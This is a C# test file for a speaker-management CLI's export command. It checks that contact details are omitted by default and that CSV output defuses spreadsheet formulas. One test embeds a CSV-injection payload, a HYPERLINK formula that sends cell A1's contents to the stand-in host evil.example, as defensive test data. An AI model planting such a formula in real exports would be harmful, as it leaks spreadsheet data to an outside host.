using SpeakerBot.Cli.Tests.Support;
using static SpeakerBot.Cli.Tests.Support.SpeakerLines;

namespace SpeakerBot.Cli.Tests;

public class ExportCommandTests
{
    private const string Email = "zoe.hamon@example.org";
    private const string Phone = "+33 6 12 34 56 78";

    [Theory]
    [InlineData("out.csv")]
    [InlineData("out.jsonl")]
    public async Task Export_without_include_contact_leaves_out_email_and_phone(string name)
    {
        using var folder = await ImportedAsync();

        var run = await folder.RunAsync("export", folder.File(name));

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Contains("2 speakers written", run.Stdout, StringComparison.Ordinal);
        var text = await File.ReadAllTextAsync(folder.File(name));
        Assert.Contains("exp-1", text, StringComparison.Ordinal);
        Assert.DoesNotContain(Email, text, StringComparison.Ordinal);
        Assert.DoesNotContain(Phone, text, StringComparison.Ordinal);
        Assert.DoesNotContain("email", text, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("phone", text, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task Export_with_include_contact_writes_email_and_phone()
    {
        using var folder = await ImportedAsync();

        var jsonl = await folder.RunAsync("export", folder.File("out.jsonl"), "--include-contact");
        var csv = await folder.RunAsync("export", folder.File("out.csv"), "--include-contact");

        Assert.True(jsonl.ExitCode == 0, jsonl.ToString());
        Assert.True(csv.ExitCode == 0, csv.ToString());
        var speaker = ReadExport(folder.File("out.jsonl"))["exp-1"];
        Assert.Equal(Email, speaker["email"]!.GetValue<string>());
        Assert.Equal(Phone, speaker["phone"]!.GetValue<string>());
        var lines = await File.ReadAllLinesAsync(folder.File("out.csv"));
        Assert.Contains("email", lines[0].Split(','));
        Assert.Contains("phone", lines[0].Split(','));
        Assert.Contains(lines, l => l.StartsWith("exp-1,", StringComparison.Ordinal) && l.Contains(Email, StringComparison.Ordinal) && l.Contains(Phone, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Export_csv_prefixes_formula_cells_with_a_quote_and_the_file_imports_back_unchanged()
    {
        const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")";
        var hostile = System.Text.Json.Nodes.JsonNode.Parse(Json("exp-f"))!;
        hostile["firstName"] = Formula;
        hostile["headline"] = "@SUM(A1:A9)";
        using var folder = new CliFolder();
        Assert.Equal(0, (await folder.RunAsync("import", folder.Write("in.jsonl", hostile.ToJsonString() + "\n"))).ExitCode);

        var run = await folder.RunAsync("export", folder.File("out.csv"));

        Assert.True(run.ExitCode == 0, run.ToString());
        var csv = await File.ReadAllTextAsync(folder.File("out.csv"));
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Cliquez\"\")\",", csv, StringComparison.Ordinal);
        Assert.Contains(",'@SUM(A1:A9),", csv, StringComparison.Ordinal);
        Assert.Equal(0, (await folder.RunAsync("import", folder.File("out.csv"))).ExitCode);
        Assert.Equal(0, (await folder.RunAsync("export", folder.File("again.jsonl"))).ExitCode);
        var again = ReadExport(folder.File("again.jsonl"))["exp-f"];
        Assert.Equal((Formula, "@SUM(A1:A9)"), (again["firstName"]!.GetValue<string>(), again["headline"]!.GetValue<string>()));
        Assert.Equal(0, (await folder.RunAsync("export", folder.File("again.csv"))).ExitCode);
        Assert.Equal(csv, await File.ReadAllTextAsync(folder.File("again.csv")));
    }

    private static async Task<CliFolder> ImportedAsync()
    {
        var folder = new CliFolder();
        var import = await folder.RunAsync("import", folder.Write("in.jsonl", Json("exp-1", email: Email, phone: Phone) + "\n" + Json("exp-2") + "\n"));
        Assert.True(import.ExitCode == 0, import.ToString());
        return folder;
    }
}
